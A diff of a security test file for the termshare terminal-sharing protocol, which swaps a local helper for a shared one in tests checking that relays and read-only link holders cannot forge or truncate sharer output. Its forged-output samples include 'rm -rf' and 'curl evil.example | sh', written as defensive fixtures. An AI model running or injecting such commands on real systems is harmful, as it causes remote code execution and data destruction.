@@ -30,11 +30,7 @@ from termshare.protocol.messages import (
 )
 from termshare.protocol.viewer import ViewerProtocol, ViewerState
 from termshare.protocol.wire import KEY_SIZE, SIG_SIZE, TAG_SIZE, FrameKind, Role
-from tests.protocol.harness import GROUP_KINDS, Net
-
-
-def _outputs(events: list[object]) -> bytes:
-    return b"".join(e.data for e in events if isinstance(e, ev.Output))
+from tests.protocol.harness import GROUP_KINDS, Net, outputs
 
 
 def test_relay_holding_read_only_link_cannot_impersonate_the_sharer() -> None:
@@ -66,7 +62,7 @@ def test_relay_holding_read_only_link_cannot_impersonate_the_sharer() -> None:
     signature = sign_private.sign(group_signed_data(attacker.sid, gheader, ciphertext))
     victim.receive_frame(gheader + ciphertext + signature)
 
-    shown = _outputs(victim.events_received())
+    shown = outputs(victim.events_received())
     assert b"rm -rf" not in shown, "a read-only link holder forged output that the viewer applied"
 
 
@@ -131,7 +127,7 @@ def test_a_read_only_link_holder_cannot_answer_a_hello_with_the_sharers_own_publ
         attacker.snapshot()
         attacker.group_direct_output(b"curl evil.example | sh\r\n")
         events = victim.events_received()
-        assert victim.state is ViewerState.CLOSED and not _outputs(events), events
+        assert victim.state is ViewerState.CLOSED and not outputs(events), events
         assert victim.failure is not None and "not signed" in str(victim.failure)
 
 
@@ -169,7 +165,7 @@ def test_relay_cannot_silently_truncate_a_group_epoch() -> None:
     net.output(b"C: done\r\n")
 
     events = victim.events_received()
-    shown = _outputs(events)
+    shown = outputs(events)
     assert b"C: done" not in shown or any(isinstance(e, ev.StreamBroken) for e in events), (
         "the relay dropped the tail of a group epoch and the viewer did not notice: "
         f"it showed {shown!r} as a continuous stream"
